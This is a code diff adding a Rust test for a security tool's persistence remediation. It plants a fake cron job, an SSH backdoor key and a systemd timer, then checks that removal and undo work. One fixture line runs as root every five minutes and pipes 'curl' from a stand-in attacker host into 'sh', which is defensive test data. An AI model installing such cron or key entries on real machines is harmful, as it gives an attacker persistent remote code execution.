@@ -306,3 +306,107 @@ pub async fn an_account_is_locked_and_restored_by_a_responder(env: &'static Env)
     let _ = sh(&["userdel", user], None);
     result
 }
+
+/// A cron entry, a systemd timer and an authorized_keys line the test installs under the
+/// host root are removed, and undo puts each file back byte for byte, with its mode and
+/// modification time.
+pub async fn persistence_entries_are_removed_and_restored(env: &'static Env) -> Result<()> {
+    let (ns, device) = ("lr-remediate-persist", "persisted");
+    let root = host_root("remediate-persist")?;
+    let files = [
+        (
+            "etc/cron.d/evil",
+            "SHELL=/bin/sh\n*/5 * * * * root curl -s http://evil.example/x | sh\n",
+            0o644,
+        ),
+        (
+            "root/.ssh/authorized_keys",
+            "ssh-ed25519 AAAAC3good admin@corp\nssh-ed25519 AAAAC3evil backdoor@evil\n",
+            0o600,
+        ),
+        (
+            "etc/systemd/system/evil.timer",
+            "[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n",
+            0o644,
+        ),
+    ];
+    let old = std::time::UNIX_EPOCH + Duration::new(1_650_000_000, 5);
+    for (rel, text, mode) in files {
+        let p = root.join(rel);
+        std::fs::create_dir_all(p.parent().context("parent")?)?;
+        std::fs::write(&p, text)?;
+        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode))?;
+        std::fs::File::options()
+            .write(true)
+            .open(&p)?
+            .set_times(std::fs::FileTimes::new().set_modified(old))?;
+    }
+    let wants = root.join("etc/systemd/system/timers.target.wants");
+    std::fs::create_dir_all(&wants)?;
+    std::os::unix::fs::symlink("/etc/systemd/system/evil.timer", wants.join("evil.timer"))?;
+    let client = setup(env, ns, device, &root).await?;
+
+    let steps = [
+        (
+            "cron",
+            "scheduledtask",
+            "/etc/cron.d/evil:2",
+            "etc/cron.d/evil",
+        ),
+        (
+            "key",
+            "startupitem",
+            "/root/.ssh/authorized_keys:2",
+            "root/.ssh/authorized_keys",
+        ),
+        (
+            "timer",
+            "scheduledtask",
+            "evil.timer",
+            "etc/systemd/system/evil.timer",
+        ),
+    ];
+    for (name, kind, entity, rel) in steps {
+        let before = std::fs::read(root.join(rel))?;
+        let r = json(
+            &client,
+            ns,
+            &format!("rm-{name}"),
+            "remediate",
+            &[kind, entity],
+        )
+        .await?;
+        let after = std::fs::read(root.join(rel)).unwrap_or_default();
+        ensure!(
+            after != before,
+            "remediate {kind} {entity} changed nothing: {r}"
+        );
+        let u = json(
+            &client,
+            ns,
+            &format!("undo-{name}"),
+            "undo",
+            &[kind, entity],
+        )
+        .await?;
+        ensure!(u["action"] == "restored", "{u}");
+        let meta = std::fs::metadata(root.join(rel))?;
+        ensure!(
+            std::fs::read(root.join(rel))? == before,
+            "undo {kind} {entity}: other bytes"
+        );
+        ensure!(
+            (meta.mtime(), meta.mtime_nsec()) == (1_650_000_000, 5),
+            "undo {kind} {entity}: mtime {}.{}",
+            meta.mtime(),
+            meta.mtime_nsec()
+        );
+    }
+    ensure!(
+        std::fs::read_link(wants.join("evil.timer")).is_ok(),
+        "the timer's enablement link did not come back"
+    );
+    env.stack.kill_agent(ns, device);
+    let _ = std::fs::remove_dir_all(&root);
+    Ok(())
+}
